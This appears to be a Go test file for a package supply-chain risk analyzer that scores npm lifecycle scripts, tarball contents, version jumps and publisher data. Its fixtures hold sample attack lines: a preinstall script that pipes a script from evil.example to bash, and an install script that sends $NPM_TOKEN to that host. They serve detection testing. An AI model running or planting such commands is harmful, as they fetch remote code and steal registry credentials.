package supplychain

import (
	"archive/tar"
	"bytes"
	"testing"

	"github.com/klauspost/compress/gzip"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/pkgrisk/analyzer/internal/adapters"
	"github.com/pkgrisk/analyzer/internal/model"
)

func TestAnalyzeLifecycle_Benign(t *testing.T) {
	risk := AnalyzeLifecycle(map[string]string{"test": "jest"})
	assert.Equal(t, model.LifecycleRiskNone, risk.Level)
	assert.Zero(t, risk.Score)
}

func TestAnalyzeLifecycle_PreinstallPipeToShell(t *testing.T) {
	risk := AnalyzeLifecycle(map[string]string{
		"preinstall": "curl https://evil.example/setup.sh | bash",
	})
	assert.True(t, risk.HasPreinstall)
	assert.True(t, risk.HasNetworkFetch)
	assert.True(t, risk.HasPipeToShell)
	assert.Equal(t, model.LifecycleRiskHigh, risk.Level)
}

func TestAnalyzeLifecycle_RuntimeInstallCompounds(t *testing.T) {
	risk := AnalyzeLifecycle(map[string]string{
		"postinstall": "curl -s https://bun.sh/install | bash",
	})
	assert.True(t, risk.HasRuntimeInstall)
	assert.False(t, risk.HasObfuscation)
	assert.Equal(t, model.LifecycleRiskHigh, risk.Level)
	assert.Equal(t, 100.0, risk.Score)
}

func TestAnalyzeLifecycle_CredentialEnvReference(t *testing.T) {
	risk := AnalyzeLifecycle(map[string]string{
		"install": "curl -F data=@- https://evil.example/x --data $NPM_TOKEN",
	})
	assert.True(t, risk.HasCredentialAccess)
}

func buildTarball(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, content := range files {
		hdr := &tar.Header{
			Name: "package/" + name,
			Mode: 0644,
			Size: int64(len(content)),
		}
		require.NoError(t, tw.WriteHeader(hdr))
		_, err := tw.Write([]byte(content))
		require.NoError(t, err)
	}
	require.NoError(t, tw.Close())
	require.NoError(t, gz.Close())
	return buf.Bytes()
}

func TestAnalyzeTarball_FlagsKnownMaliciousFilename(t *testing.T) {
	raw := buildTarball(t, map[string]string{
		"setup_bun.js": "console.log('hi')",
		"index.js":     "module.exports = 1",
	})
	analysis, err := AnalyzeTarball(raw, nil)
	require.NoError(t, err)
	assert.Equal(t, []string{"setup_bun.js"}, analysis.KnownMalicious)
	assert.Greater(t, analysis.Score, 0.0)
}

func TestAnalyzeTarball_ExtraFilesAgainstRepoTree(t *testing.T) {
	raw := buildTarball(t, map[string]string{
		"index.js": "module.exports = 1",
		"extra.js": "module.exports = 2",
	})
	repoTree := map[string]bool{"index.js": true}
	analysis, err := AnalyzeTarball(raw, repoTree)
	require.NoError(t, err)
	assert.Contains(t, analysis.ExtraFiles, "extra.js")
	assert.NotContains(t, analysis.ExtraFiles, "index.js")
}

func TestAnalyzeTarball_EvalConcatIsCritical(t *testing.T) {
	raw := buildTarball(t, map[string]string{
		"payload.js": "eval('a' + b + 'c');\nfunction noop() { return 1; }\n",
	})
	analysis, err := AnalyzeTarball(raw, nil)
	require.NoError(t, err)
	found := false
	for _, p := range analysis.Patterns {
		if p.Pattern == "eval_concat" {
			found = true
		}
	}
	assert.True(t, found)
}

func TestAnalyzeVersionDiff_FlagsMajorJump(t *testing.T) {
	manifests := map[string]adapters.NpmVersionManifest{
		"1.0.0": {Version: "1.0.0"},
		"9.0.0": {Version: "9.0.0", Scripts: map[string]string{"postinstall": "node fetch.js"}},
	}
	diff, ok := AnalyzeVersionDiff(manifests, "9.0.0")
	require.True(t, ok)
	assert.True(t, diff.IsAnomalous)
	assert.Equal(t, "major", diff.BumpKind)
	assert.Contains(t, diff.NewScripts, "postinstall")
	assert.True(t, diff.NewDangerousScript)
}

func TestAnalyzeVersionDiff_SingleVersionHasNoPredecessor(t *testing.T) {
	manifests := map[string]adapters.NpmVersionManifest{"1.0.0": {Version: "1.0.0"}}
	_, ok := AnalyzeVersionDiff(manifests, "1.0.0")
	assert.False(t, ok)
}

func TestAnalyzePublishing_SingleMaintainerPenalty(t *testing.T) {
	info := AnalyzePublishing(adapters.NpmVersionManifest{
		Publisher:   "alice",
		Maintainers: []string{"alice"},
	})
	assert.True(t, info.PublisherKnown)
	assert.True(t, info.PublisherInMaintainers)
	assert.Equal(t, 10.0, info.Score)
}

func TestAnalyzePublishing_PublisherNotInMaintainers(t *testing.T) {
	info := AnalyzePublishing(adapters.NpmVersionManifest{
		Publisher:   "mallory",
		Maintainers: []string{"alice", "bob"},
	})
	assert.False(t, info.PublisherInMaintainers)
	assert.Equal(t, 15.0, info.Score)
}

func TestAggregate_CompoundsAcrossComponents(t *testing.T) {
	data := model.SupplyChainData{
		Lifecycle: model.LifecycleScriptRisk{Score: 60, HasRuntimeInstall: true, HasCredentialAccess: true},
		Tarball:   model.TarballAnalysis{Score: 55},
	}
	aggregate(&data)
	assert.Equal(t, 80.0, data.OverallRiskScore)
	assert.Contains(t, data.BehavioralFlags, model.FlagInstallsAlternativeRuntime)
	assert.Contains(t, data.BehavioralFlags, model.FlagAccessesCredentials)
}
